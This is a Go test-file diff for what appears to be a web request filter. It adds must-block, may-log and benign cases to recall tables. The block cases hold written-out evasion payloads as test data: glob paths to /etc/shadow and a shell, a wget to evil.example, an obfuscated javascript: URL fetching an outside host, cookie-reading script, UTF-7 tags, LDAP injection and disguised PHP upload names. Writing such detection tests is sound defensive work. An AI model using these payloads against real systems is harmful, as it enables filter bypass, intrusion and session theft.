@@ -98,6 +98,21 @@ var recallBlock = []struct {
 	{"angular array method constructor", query("q", "{{[].pop.constructor('alert(1)')()}}")},
 	{"angular prototype overwrite", query("q", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}")},
 	{"el expression with class loading", query("q", "#{''.getClass().forName('java.lang.Runtime')}")},
+
+	// Evasions whose grammar only a shell or a browser reads.
+	{"program directory as a glob", query("prog", "/sb[i]n/ifconfig")},
+	{"bin directory as a range glob", query("run", "/usr/[a-c]in/sh")},
+	{"etc file as a glob", query("file", "/etc/sh?dow")},
+	{"unset braced variable inside a command", query("host", "w${Z1}get evil.example/s")},
+	{"char reference in an unquoted javascript url", post("application/json", `{"bio":"<a href=jav&Tab;ascript&colon;fetch('//x.example')>me</a>"}`)},
+	{"script extension hidden by a space", withHeaders("X-File-Name", "avatar. php.jpg")},
+	{"comment inside document.cookie", query("x", "document/**/.cookie")},
+	{"comment inside a subscripted document", post("application/x-www-form-urlencoded", "a=%28document%2F%2Ax%2A%2F%29%5B%27cookie%27%5D")},
+	{"utf-7 script tag", query("ref", "+ADw-script+AD4-")},
+	{"command word from a brace expansion", query("x", "wh{o,e}ami")},
+	{"ldap or term after a close", query("uid", "bob)(|")},
+	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
+	{"php session file as an upload name", withHeaders("X-File-Name", "sess_0f1e2d3c4b5a69788796a5b4c3")},
 }
 
 // recallGrey may be logged but must not block.
@@ -113,6 +128,9 @@ var recallGrey = []struct {
 	{"sandbox escape shown in a document", post("application/json", `{"content":"AngularJS 1.5:\n`+"```"+`\n{{x.constructor('alert(1)')()}}\n`+"```"+`\n"}`)},
 	{"spaced separator after several words", query("q", "the kids' & more")},
 	{"balanced quotes before a pipe", query("q", "'a' | cat")},
+	{"commented line reading the cookie", post("application/json", `{"code":"const c = document.cookie; /* session */"}`)},
+	{"double extension upload name", withHeaders("X-File-Name", "index.php.png")},
+	{"log files by glob", query("path", "/var/log/nginx/*.log")},
 	{"glob with a trailing star", post("application/json", `{"t":"match 'src/*' and \"https://*/*\",\n\"storage\"\n]"}`)},
 }
 
@@ -132,6 +150,14 @@ var recallBenign = []struct {
 	{"email in prose", query("q", "email me at x@y.com")},
 	{"ampersand in a name", query("q", "Tom & Jerry")},
 	{"template reading a property", query("q", "{{ item.constructor.name }}")},
+	{"listing of a program directory", query("pattern", "/usr/bin/*")},
+	{"api route with a wildcard", query("route", "/api/v1/users/*")},
+	{"template variable ending a word", query("el", "id${n}")},
+	{"brace expansion in a backup command", query("q", "cp nginx.conf{,.bak}")},
+	{"rust use list", post("application/json", `{"code":"use std::{io,fs};"}`)},
+	{"base64 with a plus", query("k", "q+ADwAbc9+xyz/AB==")},
+	{"function call chained", query("q", "connect(mapState)(App)")},
+	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
 }
 
 func TestRecall(t *testing.T) {
